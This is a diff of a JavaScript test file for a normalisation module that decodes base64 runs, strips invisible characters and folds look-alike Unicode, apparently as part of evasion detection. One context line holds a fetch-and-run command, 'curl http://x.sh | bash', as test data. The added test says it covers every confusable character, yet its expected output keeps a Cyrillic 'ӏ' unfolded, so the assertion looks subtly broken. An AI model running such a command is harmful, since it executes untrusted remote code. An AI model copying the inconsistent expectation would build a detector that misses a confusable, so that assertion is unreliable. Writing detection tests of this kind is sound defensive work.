@@ -51,3 +51,11 @@ test('normalisation folds evasions to plain text', () => {
   assert.deepEqual(decodeBase64Runs(Buffer.from('curl http://x.sh | bash').toString('base64')), ['curl http://x.sh | bash']);
   assert.deepEqual(decodeBase64Runs('ThisIsJustAnIdentifierName'), []);
 });
+
+test('folding tables cover every invisible and confusable character, adjacent ones included', () => {
+  assert.equal(stripInvisible('a\u200b\u200c\u200d\u2060\ufeffb\u00ad\u202ec'), 'abc');
+  assert.equal(foldConfusables('аррӏе ѕс'), 'appӏe sc');
+  assert.equal(normalizeUnicode('р\u200bа\u200bу'), 'pay');
+  const plain = 'nothing to change here';
+  assert.equal(normalizeUnicode(`${plain}é`), `${plain}é`);
+});
